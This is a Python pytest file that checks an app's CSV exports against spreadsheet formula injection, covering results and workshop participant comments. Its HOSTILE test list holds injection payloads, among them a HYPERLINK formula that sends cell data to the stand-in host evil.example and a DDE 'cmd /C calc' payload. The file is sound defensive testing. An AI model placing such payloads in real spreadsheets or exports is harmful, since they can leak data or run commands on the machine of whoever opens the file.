"""CSV exports open safely in a spreadsheet: no cell can start a formula.

A comment such as ``=HYPERLINK("https://evil.example","clic")`` typed by a participant would run
when the facilitator opens the export in a spreadsheet. Every cell that starts with ``=``, ``+``,
``-``, ``@``, a tab, a carriage return or NUL gets a leading apostrophe (OWASP ASVS 1.2.10), in
the results CSV and in the workshop's answers CSV; the apostrophe is the only change.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from diagnostic.method import benchmarks
from diagnostic.method.answers import Answers
from diagnostic.method.report import build_report
from diagnostic.outputs.exports import FORMULA_LEADS, results_csv, safe_cell
from diagnostic.workshop import participant as workshop
from diagnostic.workshop import results as workshop_results
from diagnostic.workshop import store

MINI_BENCH = Path(__file__).resolve().parent / "fixtures" / "mini_benchmarks"
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    # White space first: spreadsheets skip it and still read a formula.
    ' =HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")',
    "   +1+1",
    "\u00a0=1+1",
    "\u2003@SUM(A1:A2)",
    "\n=1+1",
    " \t -1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_leads_get_an_apostrophe(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["", "1", "P2", "a=b", "Charte « validée »", "'déjà", "niveau 3 - partiel", "  1", " a = b"],
)
def test_other_values_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_non_text_values() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(2) == "2"
    assert safe_cell(-3) == "'-3"  # a negative number is written as text, never as a formula


def rows_of(data: bytes, lang: str) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with the BOM
    return list(
        csv.reader(io.StringIO(text[1:], newline=""), delimiter=";" if lang == "fr" else ",")
    )


def assert_no_formula(rows: list[list[str]], expected: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_LEADS) or c.lstrip()[:1] in "=+-@"]
    missing = [value for value in expected if "'" + value not in cells]
    assert not missing, missing


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_results_csv_neutralises_every_comment(mini, lang: str) -> None:
    qids = list(mini.questions)
    for start in range(0, len(HOSTILE), len(qids)):  # more payloads than questions: several reports
        comments = dict(zip(qids, HOSTILE[start : start + len(qids)], strict=False))
        answers = Answers(
            "mini", "1.0", {"establishment_type": "chu"}, dict.fromkeys(comments, 1), comments
        )
        report = build_report(mini, answers, benchmarks.load_editions(MINI_BENCH))
        assert_no_formula(rows_of(results_csv(report, lang), lang), list(comments.values()))


def test_workshop_csv_neutralises_participant_comments(mini) -> None:
    engine = store.make_engine(store.database_url())
    created = workshop.create_workshop(
        engine,
        mini,
        title="Atelier",
        held_on=date(2026, 3, 2),
        profile={"establishment_type": "chu"},
    )
    access = workshop.verify_key(
        engine, created.workshop_id, created.facilitator_key, sleep=lambda _: None
    )
    stored: list[str] = []
    for comment in HOSTILE:  # one participant each, all in one role group (above its minimum)
        token = workshop.join(engine, created.join_code, "director").token
        workshop.save_answer(engine, mini, token, "alpha.one", 2, comment)
        stored.append(workshop.cleaned_note(comment) or "")  # as saved: controls out, trimmed
    data = workshop_results.export_answers_csv(
        engine, mini, access, created.workshop_id, "fr", include_comments=True
    )
    rows = rows_of(data, "fr")
    assert len(rows) == 1 + len(HOSTILE)
    assert_no_formula(rows, stored)
